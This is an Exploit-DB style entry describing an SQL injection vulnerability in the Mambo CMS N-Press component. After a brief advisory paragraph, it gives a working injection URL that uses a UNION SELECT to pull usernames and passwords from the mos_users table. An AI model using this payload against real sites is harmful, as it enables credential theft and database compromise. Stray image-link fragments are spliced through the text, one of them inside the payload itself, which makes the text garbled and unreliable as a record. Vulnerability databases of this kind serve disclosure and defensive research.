Mambo CMS N-Press Component SQL Injection Vulnerability

ID EDB-ID:36106
Type exploitdb
Reporter CoBRa_21
Modified 2011-09-02T00:00:00


Mambo CMS N-Press Component SQL Injection Vulnerability. Webapps exploitfor php platform


The Mambo CMS N-Press component is prone to an SQL-injection vulnerability because it fails to sufficiently sanitize user-supplied data before using it in an SQL query.

Exploiting this issue could allow an attacker to compromise the application, access or modify data, or exploit latent vulnerabilities in the underlying database.[PATH]/index.php?option=com_n-press&press=10 unionselect 0,username,2,password,4,5,6,7,8,9,10,11,12,13,14,15,16,17,18,19,20,21,22,23,24,25,26,27,28,29 from mos_users